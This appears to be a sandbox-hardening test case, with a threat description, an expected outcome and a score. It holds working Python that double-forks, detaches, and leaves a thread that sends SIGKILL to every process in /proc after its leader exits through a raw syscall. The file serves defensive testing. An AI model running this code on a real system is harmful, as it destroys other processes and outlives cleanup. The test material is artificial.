# threat: a process that outlives its notebook (zombie leader, live thread) and kills the next sandboxes
# expect: ok
# score: 4
import ctypes, os, platform, threading, time
me, (read_end, write_end) = os.getpid(), os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        def killer():
            os.write(write_end, b"alive")
            for _ in range(1200):
                for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
                    if pid not in (me, os.getpid()):
                        try:
                            os.kill(pid, 9)
                        except OSError:
                            pass
                time.sleep(0.1)
        threading.Thread(target=killer).start()
        time.sleep(0.2)
        ctypes.CDLL(None).syscall(60 if platform.machine() == "x86_64" else 93, 0)  # the leader thread alone exits
    os._exit(0)
if os.read(read_end, 5) == b"alive":  # the killer thread runs: the attack is under way
    SOLUTION
